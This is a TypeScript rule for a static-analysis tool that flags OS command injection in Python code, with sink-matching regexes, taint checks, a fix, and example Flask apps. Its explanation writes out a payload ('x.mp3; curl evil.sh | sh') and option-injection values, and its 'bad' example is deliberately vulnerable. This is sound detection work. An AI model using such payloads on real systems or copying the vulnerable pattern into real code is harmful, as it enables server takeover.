import { classifyPySinkArgument, describeTaintTrace, taintSourceLocation } from '../../facts/python-taint.ts';
import type { SyntaxNode } from '../../model/parsed-file.ts';
import { defineRule } from '../../model/rule.ts';
import { describePyCall, enclosingPyFunction, pyFunctionName, type PyCall } from '../../parse/python-syntax.ts';

/** Calls that always go through a shell. */
const SHELL_CALL = /^(os\.system|os\.popen|popen2?\.\w+|commands\.getoutput|commands\.getstatusoutput|subprocess\.getoutput|subprocess\.getstatusoutput|asyncio\.create_subprocess_shell|create_subprocess_shell|system|popen)$/;
/** Calls that use a shell only with `shell=True`. */
const SUBPROCESS_CALL = /^(subprocess\.)?(run|call|check_call|check_output|Popen)$/;
/** Calls that start a program directly: a client-chosen program or argument list is still dangerous. */
const EXEC_CALL = /^(os\.(exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)|asyncio\.create_subprocess_exec|create_subprocess_exec|pty\.spawn)$/;

export default defineRule({
  meta: {
    id: 'command-injection',
    category: 'security',
    title: 'OS command built from request data',
    severity: 'critical',
    confidence: 'high',
    status: 'experimental',
    appliesWhen: ['python'],
    scorecard: 'Input Validation',
    messages: {
      taintedShell: '`{{sink}}` runs a shell command built from {{source}}.',
      taintedProgram: '`{{sink}}` starts a program whose name or arguments come from {{source}}.',
      dynamicShell: '`{{sink}}` in `{{function}}()` runs a shell command built from its {{source}} without quoting or validation; it is command injection as soon as one caller passes user input.',
    },
    why: [
      'A shell interprets `;`, `&&`, `|`, `$(…)` and backticks. When any part of the command line comes from the request, a caller who sends `x.mp3; curl evil.sh | sh` runs their own commands on the server with the app\'s permissions: read secrets and the database, pivot into the network, or wipe the disk.',
      '',
      'Even without a shell, letting the client choose the program or an option (`--output=/etc/passwd`, `-oProxyCommand=…`) gives the same control.',
    ].join('\n'),
    fix: [
      'Pass a list of arguments without a shell, with a fixed program, and validate the user\'s part against an allow-list or a strict pattern; end options with `--` so a value starting with `-` is not read as one.',
      '',
      '```python',
      '# before: subprocess.run(f"ffmpeg -i {name} out.wav", shell=True)',
      'if not re.fullmatch(r"[\\w-]{1,64}\\.mp3", name):',
      '    abort(400)',
      'subprocess.run(["ffmpeg", "-i", str(RECORDINGS / name), "out.wav"], check=True, timeout=60)',
      '```',
      '',
      'If a shell is unavoidable, quote every untrusted part with `shlex.quote()`.',
    ].join('\n'),
    effortHours: 2,
    examples: {
      bad: {
        'requirements.txt': 'flask==3.0.3\n',
        'app.py': [
          'import subprocess',
          'from flask import Flask, request',
          '',
          'app = Flask(__name__)',
          '',
          '@app.post("/convert")',
          'def convert():',
          '    name = request.form["file"]',
          '    subprocess.run(f"convert {name} out.png", shell=True)',
          '    return "ok"',
          '',
        ].join('\n'),
      },
      good: {
        'requirements.txt': 'flask==3.0.3\n',
        'app.py': [
          'import re',
          'import subprocess',
          'from flask import Flask, abort, request',
          '',
          'app = Flask(__name__)',
          '',
          '@app.post("/convert")',
          'def convert():',
          '    name = request.form["file"]',
          '    if not re.fullmatch(r"[\\w-]+\\.png", name):',
          '        abort(400)',
          '    subprocess.run(["convert", "--", name, "out.png"], check=True)',
          '    return "ok"',
          '',
        ].join('\n'),
      },
    },
    references: {
      cwe: [78, 77, 88],
      owasp: ['A03:2021 Injection'],
      equivalents: ['bandit:B602', 'bandit:B605', 'bandit:B604', 'semgrep:python.lang.security.audit.subprocess-shell-true', 'semgrep:python.flask.security.injection.os-system-injection'],
    },
  },
  check(ctx) {
    for (const file of ctx.files.ofKind('python', { includeTests: false, containing: ['os.', 'subprocess', 'popen', 'system', 'getoutput', 'spawn', 'create_subprocess', 'pty'] })) {
      for (const node of file.findAll({ kind: 'call', has: { field: 'function', regex: '(system|popen|getoutput|getstatusoutput|run|call|check_call|check_output|Popen|_shell|_exec|exec[lv]p?e?|spawn[lv]?p?e?)$' } })) {
        const call = describePyCall(node);
        if (!call) continue;
        const shell = usesShell(call, file.text);
        if (shell) {
          const command = call.args[0] ?? call.keywords.get('args') ?? call.keywords.get('cmd') ?? call.keywords.get('command');
          if (!command) continue;
          // `subprocess.run(["sh", "-c", x])`-style lists are handled below; a list with shell=True runs only its first item.
          const reached = classifyPySinkArgument(ctx, file, command, 'command');
          if (reached?.kind === 'tainted')
            ctx.report({
              messageId: 'taintedShell',
              at: file.locate(node),
              data: { sink: call.callee, source: describeTaintTrace(reached.trace) },
              related: [taintSourceLocation(reached.trace)],
            });
          else if (reached?.kind === 'dynamic' && !file.isTest)
            ctx.report({
              messageId: 'dynamicShell',
              at: file.locate(node),
              data: { sink: call.callee, function: functionName(node), source: describeTaintTrace(reached.trace) },
              severity: 'medium',
              confidence: 'low',
            });
          continue;
        }
        if (!EXEC_CALL.test(call.callee) && !SUBPROCESS_CALL.test(call.callee)) continue;
        if (SUBPROCESS_CALL.test(call.callee) && !isSubprocessModuleCall(call, file.text)) continue;
        const argv = call.args[0] ?? call.keywords.get('args');
        if (!argv) continue;
        const program = programPart(argv);
        const reached = classifyPySinkArgument(ctx, file, program, 'command');
        if (reached?.kind !== 'tainted') continue;
        ctx.report({
          messageId: 'taintedProgram',
          at: file.locate(node),
          data: { sink: call.callee, source: describeTaintTrace(reached.trace) },
          related: [taintSourceLocation(reached.trace)],
        });
      }
    }
  },
});

function usesShell(call: PyCall, fileText: string): boolean {
  // A bare `system(...)` is os.system only when the file imports it from os.
  if (call.callee === 'system' || call.callee === 'popen') return new RegExp(`^\\s*from\\s+os\\s+import\\b[^\\n]*\\b${call.callee}\\b`, 'm').test(fileText);
  if (SHELL_CALL.test(call.callee)) return true;
  if (!SUBPROCESS_CALL.test(call.callee) || !isSubprocessModuleCall(call, fileText)) return false;
  const shell = call.keywords.get('shell');
  return !!shell && shell.text() !== 'False' && shell.text() !== '0' && shell.text() !== 'None';
}

/** `run(...)` alone is too common a name: require the `subprocess.` prefix, or a `from subprocess import` in the file. */
function isSubprocessModuleCall(call: PyCall, fileText: string): boolean {
  if (call.callee.startsWith('subprocess.')) return true;
  if (call.callee.includes('.')) return false;
  return /^\s*from\s+subprocess\s+import\b/m.test(fileText);
}

/**
 * The part of an argv that decides what runs: the program (`[prog, …]`), or the code given to a
 * shell or interpreter (`["sh", "-c", cmd]`, `["python", "-c", code]`). A client value as a plain
 * argument of a fixed program is left alone: that is how safe code passes file names.
 */
function programPart(argv: SyntaxNode): SyntaxNode {
  if (argv.kind() !== 'list' && argv.kind() !== 'tuple') return argv;
  const items = argv.children().filter((c) => c.isNamed() && c.kind() !== 'comment');
  const first = items[0]?.text().replace(/['"]/g, '').split('/').pop() ?? '';
  const flag = items[1]?.text().replace(/['"]/g, '');
  if (/^((ba|z|da|k)?sh|python[\d.]*|node|perl|ruby|php)$/.test(first) && /^-(c|e|-eval)$/.test(flag ?? '') && items[2]) return items[2];
  return items[0] ?? argv;
}

function functionName(node: SyntaxNode): string {
  const fn = enclosingPyFunction(node);
  return fn ? pyFunctionName(fn) : '<module>';
}
